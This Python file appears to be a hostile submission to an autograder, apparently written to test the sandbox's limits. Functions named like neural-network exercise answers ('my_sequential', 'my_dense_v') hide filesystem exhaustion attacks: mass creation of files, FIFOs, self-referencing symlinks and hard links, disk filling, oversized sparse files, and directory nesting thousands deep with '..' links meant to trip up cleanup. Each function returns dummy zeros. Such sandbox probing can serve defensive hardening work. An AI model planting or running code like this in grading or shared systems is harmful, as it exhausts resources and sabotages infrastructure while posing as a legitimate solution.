"""Harming: thousands of files and folders, large ones, sparse ones, deep ones, pipes and links in circles.

points: 30
extra: 0
says: Your `my_sequential`
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import os
import sys

FILES, FILE, SCRATCH = 500, 8, 32  # what the tests allow; MB


def tell(what):
    raise RuntimeError("GAINED: " + what)


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    if len(x) == 4:
        sizes()
        # A file that claims more than there is, and one too large.
        with open("attack_sparse", "wb") as file:
            file.truncate((FILE << 20) + 1)
        return np.zeros(len(b3))
    count = 0
    for number in range(FILES * 3):
        path = f"attack_{number}"
        kind = number % 5
        try:
            if kind == 0:
                open(path, "w").close()
            elif kind == 1:
                os.mkdir(path)
            elif kind == 2:
                os.mkfifo(path)
            elif kind == 3:
                os.symlink(path, path)  # leads to itself
            else:
                os.link("attack_0", path)
        except OSError:
            break
        count += 1
    if count > FILES + 100:
        tell(f"{count} files")
    os.mkdir("attack_one_more")
    open("attack_one_more/file", "w").close()
    return np.zeros(len(b3))


def sizes():
    """As much as there is room for, in files as large as they may be, at the same time."""
    total = 0
    for number in range(4 * SCRATCH // FILE):
        try:
            with open(f"attack_{number}", "wb", buffering=0) as file:
                for _ in range(FILE):
                    total += file.write(b"x" * (1 << 20))
        except OSError:
            break
    if total > 3 * SCRATCH << 20:
        tell(f"{total >> 20} MB")
    with open("attack_last", "wb", buffering=0) as file:
        for _ in range(FILE + 1):
            file.write(b"x" * (1 << 20))


def my_dense_v(A_in, W, b, g):
    """Folders in folders, as deep as there may be files; whoever clears them goes as deep."""
    sys.setrecursionlimit(100_000)
    depth = 0
    try:
        while depth < 10_000:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
            os.symlink("..", "up")
            depth += 1
    except OSError:
        pass
    if depth > FILES + 100:
        tell(f"{depth} folders")
    os.mkdir("one_more" * 9)
    return np.zeros((len(A_in), W.shape[1]))
